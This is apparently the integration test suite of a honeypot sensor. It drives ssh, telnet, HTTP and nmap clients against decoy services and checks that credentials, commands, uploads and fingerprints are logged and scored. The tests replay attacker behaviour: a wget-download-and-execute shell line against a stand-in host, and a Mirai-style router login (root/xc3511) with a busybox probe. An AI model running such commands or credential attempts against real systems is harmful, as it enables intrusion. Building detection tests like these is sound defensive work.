//! Real clients against a running `up`: each sees a real host, and everything it did is there to read.

mod stack;

use serde_json::Value;
use stack::{ask, client, client_with_input, events, eventually, folder, sessions, ssh, text, up};

fn only_session(data: &std::path::Path, protocol: &str) -> String {
    let list = eventually(20, "the session", || {
        let list = ask(data, &["sessions", "--protocol", protocol, "--limit", "1000"])["sessions"].as_array().cloned().unwrap_or_default();
        (!list.is_empty()).then_some(list)
    });
    assert_eq!(list.len(), 1, "{list:?}");
    list[0]["id"].as_str().expect("an id").to_owned()
}

#[test]
fn ssh_exec() {
    let (_keep, data) = folder();
    let running = up(&data, &[]);
    let port = running.decoy("ssh").port();
    let output = ssh("ssh", port, &["root@127.0.0.1", "uname -a; id; exit 3"], b"");
    assert!(text(&output).starts_with("Linux "), "{output:?}");
    assert!(text(&output).contains("uid=0(root) gid=0(root)"), "{output:?}");
    assert_eq!(output.status.code(), Some(3));
    let id = only_session(&data, "ssh");
    let auth = events(&data, &id, "auth");
    let password = auth.iter().find(|a| a["method"] == "password").expect("a password");
    assert_eq!((&password["username"], &password["secret"]), (&Value::from("root"), &Value::from("hunter2")));
    assert_eq!(events(&data, &id, "command")[0]["line"], "uname -a; id; exit 3");
    let fingerprints = events(&data, &id, "fingerprint");
    assert!(fingerprints.iter().any(|f| f["method"] == "hassh" && f["value"].as_str().is_some_and(|v| v.len() == 32)), "{fingerprints:?}");
}

#[test]
fn ssh_terminal() {
    let (_keep, data) = folder();
    let running = up(&data, &[]);
    let port = running.decoy("ssh").port();
    let output = ssh("ssh", port, &["-tt", "root@127.0.0.1"], b"echo $((6*7)) > /tmp/a\ncat /tmp/a\nls /nonexistent\nexit\n");
    let screen = text(&output);
    assert!(screen.contains("\r\n42\r\n"), "{screen}");
    assert!(screen.contains("ls: cannot access '/nonexistent': No such file or directory"), "{screen}");
    let id = only_session(&data, "ssh");
    let lines: Vec<Value> = events(&data, &id, "command").into_iter().map(|c| c["line"].clone()).collect();
    assert_eq!(lines, ["echo $((6*7)) > /tmp/a", "cat /tmp/a", "ls /nonexistent", "exit"]);
}

#[test]
fn scp_and_sftp_uploads_are_kept() {
    let (keep, data) = folder();
    let running = up(&data, &[]);
    let port = running.decoy("ssh").port();
    let file = keep.path().join("payload.bin");
    std::fs::write(&file, b"\x7fELF not really\0\xff").expect("a file");
    let path = file.to_str().expect("text");
    for (mode, target) in [("-O", "/tmp/legacy"), ("-s", "/tmp/modern")] {
        let output = ssh("scp", port, &[mode, path, &format!("root@127.0.0.1:{target}")], b"");
        assert!(output.status.success(), "scp {mode}: {output:?}");
    }
    let back = keep.path().join("back.bin");
    let batch = format!("put {path} /tmp/third\nls -l /tmp\nget /tmp/third {}\nrm /tmp/third\n", back.display());
    let output = ssh("sftp", port, &["-o", "BatchMode=no", "-b", "-", "root@127.0.0.1"], batch.as_bytes());
    assert!(output.status.success(), "sftp: {output:?}");
    assert_eq!(std::fs::read(&back).expect("it came back"), std::fs::read(&file).expect("it is there"));

    let sha256 = text(&client("sha256sum", &[path]))[..64].to_owned();
    let mut methods = Vec::new();
    for session in sessions(&data, 3) {
        for file in events(&data, session["id"].as_str().expect("an id"), "file") {
            assert_eq!(file["sha256"], sha256.as_str());
            methods.push(file["method"].as_str().expect("text").to_owned());
        }
    }
    methods.sort();
    assert_eq!(methods, ["scp", "sftp", "sftp"]);
}

#[test]
fn a_tunnel_is_recorded_and_goes_nowhere() {
    let (_keep, data) = folder();
    let running = up(&data, &[]);
    let port = running.decoy("ssh").port();
    // -W asks for a connection to the address and joins it to standard input and output.
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    listener.set_nonblocking(true).expect("a socket");
    let target = listener.local_addr().expect("an address").to_string();
    ssh("ssh", port, &["-W", &target, "root@127.0.0.1"], b"GET / HTTP/1.0\r\n\r\n");
    let id = only_session(&data, "ssh");
    let tunnels = events(&data, &id, "tunnel");
    assert_eq!(tunnels[0]["host"], "127.0.0.1");
    assert_eq!(tunnels[0]["port"], Value::from(listener.local_addr().expect("an address").port()));
    assert!(listener.accept().is_err(), "the sensor connected to an address an attacker named");
}

#[test]
fn telnet() {
    let (_keep, data) = folder();
    let running = up(&data, &["--set", "sensor.persona=busybox-router"]);
    let address = running.decoy("telnet");
    // telnet(1) drops what is typed before the login prompt's options are settled: type like a person.
    let script = format!(
        "(sleep 1; echo root; sleep 1; echo xc3511; sleep 1; echo '/bin/busybox ECCHI'; sleep 1; echo exit; sleep 1) | telnet {} {}",
        address.ip(),
        address.port()
    );
    let screen = text(&client("sh", &["-c", &script]));
    assert!(screen.contains("ECCHI: applet not found"), "{screen}");
    let id = only_session(&data, "telnet");
    let auth = &events(&data, &id, "auth")[0];
    assert_eq!((&auth["username"], &auth["secret"]), (&Value::from("root"), &Value::from("xc3511")));
    assert_eq!(events(&data, &id, "command")[0]["line"], "/bin/busybox ECCHI");
}

#[test]
fn curl_http_and_https() {
    let (_keep, data) = folder();
    let running = up(&data, &[]);
    let (http, https) = (running.decoy("http"), running.decoy("https"));
    let output = client("curl", &["-si", "--max-time", "20", &format!("http://{http}/")]);
    assert!(text(&output).starts_with("HTTP/1.1 200 OK\r\n"), "{}", text(&output));
    let output = client("curl", &["-ski", "--max-time", "20", "-u", "admin:secret", "-A", "probe/1.0", &format!("https://{https}/admin/")]);
    assert!(text(&output).starts_with("HTTP/1.1 200 OK\r\n"), "{}", text(&output));
    let output = client("curl", &["-si", "--max-time", "20", &format!("http://{http}/no-such-page")]);
    assert!(text(&output).starts_with("HTTP/1.1 404 Not Found\r\n"), "{}", text(&output));
    let all = sessions(&data, 3);
    let ids: Vec<&str> = all.iter().filter_map(|s| s["id"].as_str()).collect();
    let auth: Vec<Value> = ids.iter().flat_map(|id| events(&data, id, "auth")).collect();
    assert_eq!(auth.len(), 1);
    assert_eq!((&auth[0]["method"], &auth[0]["username"], &auth[0]["secret"]), (&"basic".into(), &"admin".into(), &"secret".into()));
    let fingerprints: Vec<Value> = ids.iter().flat_map(|id| events(&data, id, "fingerprint")).collect();
    for method in ["ja3", "ja4"] {
        assert!(fingerprints.iter().any(|f| f["method"] == method), "{fingerprints:?}");
    }
}

#[test]
fn nmap_names_the_personas_products() {
    let (_keep, data) = folder();
    let running = up(&data, &[]);
    let ports: Vec<String> = ["ssh", "http", "https"].iter().map(|p| running.decoy(p).port().to_string()).collect();
    let output = client("nmap", &["-sV", "-Pn", "-n", "-p", &ports.join(","), "127.0.0.1"]);
    let screen = text(&output);
    for product in ["OpenSSH 8.9p1 Ubuntu", "Apache httpd 2.4.52 ((Ubuntu))"] {
        assert!(screen.contains(product), "{product} not in {screen}");
    }
    // On a port that is not 443 nmap speaks plain HTTP first, and a real Apache answers that too.
    assert_eq!(screen.matches("Apache httpd 2.4.52").count(), 2, "{screen}");
    assert!(!screen.to_lowercase().contains("honeypot") && !screen.to_lowercase().contains("cowrie"), "{screen}");
}

#[test]
fn nmap_names_the_router() {
    let (_keep, data) = folder();
    let running = up(&data, &["--set", "sensor.persona=busybox-router"]);
    let port = running.decoy("telnet").port().to_string();
    let screen = text(&client("nmap", &["-sV", "-Pn", "-n", "-p", &port, "127.0.0.1"]));
    assert!(screen.to_lowercase().contains("busybox telnetd"), "{screen}");
}

#[test]
fn an_attack_ends_in_a_score_and_a_private_address_stays_out_of_the_blocklist() {
    let (_keep, data) = folder();
    let running = up(&data, &[]);
    let port = running.decoy("ssh").port();
    let line = "cd /tmp; wget http://192.0.2.7/x.sh; chmod +x x.sh; ./x.sh; rm -f x.sh";
    ssh("ssh", port, &["root@127.0.0.1", line], b"");
    let check = eventually(20, "a score", || {
        let check = ask(&data, &["check", "127.0.0.1"]);
        (check["found"] == true).then_some(check)
    });
    assert!(check["confidenceLevel"].as_u64().is_some_and(|c| c >= 40), "{check}");
    assert!(check["behaviors"].as_array().is_some_and(|b| b.len() == 1), "{check}");
    let list = |more: &[&str]| {
        let mut arguments = vec!["blocklist", "--score-minimum", "1", "--data", data.to_str().expect("text")];
        arguments.extend(more);
        text(&client_with_input(stack::PROGRAM, &arguments, b""))
    };
    assert_eq!(list(&[]), "");
    assert_eq!(list(&["--include-private"]), "127.0.0.1\n");
}
